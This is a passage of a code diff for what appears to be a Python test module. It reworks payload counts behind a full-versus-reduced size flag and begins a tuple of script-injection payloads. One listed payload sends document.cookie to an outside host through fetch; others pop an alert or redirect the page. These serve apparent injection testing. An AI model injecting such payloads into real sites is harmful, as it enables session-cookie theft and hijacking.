@@ -16,9 +16,13 @@ from typing import Final
 
 import jknmodel as jkn
 from jknmodel.study.side_by_side import SideBySide, side_by_side
+from whole import WHOLE
 
-COUNT: Final = 252  # names of a place and three plans of this size: 504 payloads
-VILLAGES, LEVERS, FUNDS, PLANS = 40, 28, 17, 3
+PLANS: Final = 3
+#: 504 payloads in all, 160 in `./jkn test`.
+VILLAGES, LEVERS, FUNDS = (40, 28, 17) if WHOLE else (10, 8, 5)
+#: Names of a place and three plans of this size.
+COUNT: Final = 2 + 4 * VILLAGES + FUNDS + 3 + 2 * LEVERS + (PLANS - 1) * (2 + 3 + 2 * 1)
 
 _ACTS: Final = (
     "alert(1)", "fetch('http://example.com/'+document.cookie)", "location='http://example.com'",
